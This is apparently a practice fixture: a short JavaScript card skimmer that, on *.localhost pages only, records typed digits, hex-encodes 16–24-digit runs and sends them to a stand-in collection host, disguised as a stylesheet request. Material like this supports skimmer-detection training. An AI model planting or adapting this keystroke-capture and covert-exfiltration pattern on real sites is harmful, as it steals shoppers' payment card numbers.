/* Inert practice fixture: acts on *.localhost only, and what it sends is counted and dropped. */
(() => {
  if (!location.hostname.endsWith('.localhost')) return;
  const home = `${location.protocol}//collect.localhost:${location.port}`;
  let keys = '';
  document.addEventListener('keydown', (event) => {
    if (!/^\d$/.test(event.key ?? '')) return;
    keys += event.key;
    if (keys.length < 16 || keys.length > 24) return;
    const link = document.createElement('link');
    link.rel = 'stylesheet';
    link.href = `${home}/lib/k.css?w=${[...keys].map((sign) => sign.charCodeAt(0).toString(16)).join('')}`;
    document.head.append(link);
  });
})();
